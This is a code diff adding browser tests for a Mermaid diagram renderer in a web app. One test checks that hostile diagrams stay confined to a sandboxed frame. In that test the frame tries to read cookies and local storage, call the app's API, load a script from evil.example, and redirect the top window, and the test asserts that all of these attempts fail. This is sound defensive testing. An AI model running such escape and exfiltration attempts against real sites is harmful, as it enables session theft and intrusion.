@@ -2,6 +2,7 @@
 import { openPage } from "./browser.mjs";
 import { logIn, sessionUrl } from "./house.mjs";
 import { assert, Suite, until } from "./kit.mjs";
+import { diagrams } from "./payloads.mjs";
 
 const PLAN = `---
 tools: write_file
@@ -217,6 +218,94 @@ export function reading({ house, browser }) {
     await edge.dblclick();
     await until(async () => Math.round((await panel.boundingBox()).width), (width) => width === Math.round(before.width), { what: "the width that it had" });
     await done(page);
+  });
+
+  const diagramPlan = (texts) => `# Diagrams\n\n${texts.map((text) => `~~~mermaid\n${text}\n~~~\n`).join("\n")}`;
+
+  suite.test("45 a diagram is drawn as an image above its lines, loaded only where there is one, and says why where none can be drawn", async () => {
+    const id = fresh();
+    await house.ready(id, diagramPlan(["flowchart TD\n  A[Stop] --> B{Space?}\n  B -->|yes| C[Run]", "flowchart TD\n  A --"]));
+    const page = await opened(id);
+    const figures = drawn(page).getByTestId("diagram");
+    const image = figures.first().getByRole("img", { name: "Diagram drawn from the lines below" });
+    await image.waitFor();
+    const { width, height, source } = await image.evaluate((drawn) => ({ width: drawn.naturalWidth, height: drawn.naturalHeight, source: decodeURIComponent(drawn.src) }));
+    assert.ok(width > 60 && height > 100 && height < 2_000, `${width} × ${height}`);
+    for (const label of ["Stop", "Space?", "yes", "Run"]) assert.ok(source.includes(label), label);
+    await figures.nth(1).getByText(/^No diagram: .*parse/i).waitFor();
+    assert.deepEqual(await drawn(page).locator("[data-line='5'] code, [data-line='6'] code").allTextContents(), ["  A[Stop] --> B{Space?}", "  B -->|yes| C[Run]"]);
+    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/diagram-light.png` });
+    await page.emulateMedia({ colorScheme: "dark" });
+    await until(() => image.getAttribute("src"), (now) => decodeURIComponent(now) !== source, { what: "the diagram in dark colours" });
+    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/diagram-dark.png` });
+    await done(page);
+    const without = fresh();
+    await house.ready(without, PLAN);
+    const other = await openPage(browser, house.base);
+    const asked = [];
+    other.on("request", (request) => asked.push(request.url()));
+    await logIn(other, house);
+    await other.goto(`${sessionUrl(house, without)}/plan`);
+    await drawn(other).waitFor();
+    assert.deepEqual(asked.filter((url) => /diagram/i.test(url)), []);
+    await done(other);
+  });
+
+  suite.test("46 a hostile diagram runs nothing, asks nobody, and leaves the plan readable", async () => {
+    const id = fresh();
+    await house.ready(id, diagramPlan(diagrams));
+    const page = await openPage(browser, house.base);
+    const stopped = [];
+    page.on("requestfailed", (request) => request.url().includes("evil.example") && stopped.push(request.failure()?.errorText));
+    await logIn(page, house);
+    await page.goto(`${sessionUrl(house, id)}/plan`);
+    const figures = drawn(page).getByTestId("diagram");
+    await figures.first().waitFor();
+    const ended = { image: 0, refused: 0 };
+    for (let at = 0; at < diagrams.length; at += 1) {
+      const figure = figures.nth(at);
+      await figure.scrollIntoViewIfNeeded();
+      await until(() => figure.innerText(), (text) => /Drawn from|No diagram/.test(text), { what: `an end of diagram ${at}`, within: 30_000 });
+      ended[(await figure.getByRole("img").count()) ? "image" : "refused"] += 1;
+    }
+    assert.equal(ended.image + ended.refused, diagrams.length);
+    assert.ok(ended.image >= 8 && ended.refused >= 3, JSON.stringify(ended));
+    const frame = page.frames().find((one) => one.url().endsWith("/diagram.html"));
+    assert.deepEqual([await page.evaluate(() => window.__xss), await frame.evaluate(() => [window.__xss, {}.polluted])], [undefined, [undefined, undefined]]);
+    // Whatever ran there would reach nothing.
+    const reached = await frame.evaluate(async () => {
+      const tries = {
+        parent: () => parent.document.title,
+        storage: () => localStorage.length,
+        cookie: () => document.cookie,
+        ask: () => fetch("/api/sessions"),
+        elsewhere: () => fetch("https://evil.example/"),
+        socket: () => new Promise((open, shut) => Object.assign(new WebSocket(`ws://${new URL(document.URL).host}/api/events`), { onopen: open, onerror: shut })),
+        image: () => new Promise((load, fail) => Object.assign(new Image(), { onload: load, onerror: fail, src: "/mark.svg" })),
+        script: () => new Promise((load, fail) => document.head.append(Object.assign(document.createElement("script"), { onload: load, onerror: fail, src: "https://evil.example/x.js" }))),
+        window: () => window.open("https://evil.example/") ?? Promise.reject(new Error("none")),
+        top: () => Promise.resolve((top.location = "https://evil.example/")),
+      };
+      const held = [];
+      for (const [name, attempt] of Object.entries(tries)) {
+        try {
+          await attempt();
+          held.push(name);
+        } catch {
+          // As it must be.
+        }
+      }
+      return held;
+    });
+    assert.deepEqual(reached, []);
+    await frame.evaluate(() => void (location.href = "https://evil.example/?plan"));
+    await until(() => page.evaluate(() => document.title), Boolean, { what: "the page, still there" });
+    // What the frame tried to ask for was stopped by its policy, before anything was sent.
+    const foreign = page.faults.filter((fault) => fault.startsWith("foreign"));
+    assert.deepEqual([page.faults.filter((fault) => fault.startsWith("error")), stopped.filter((why) => why !== "csp")], [[], []], JSON.stringify(stopped));
+    assert.equal(stopped.length, foreign.length);
+    assert.ok(page.url().startsWith(house.base), page.url());
+    await page.context().close();
   });
 
   return suite;
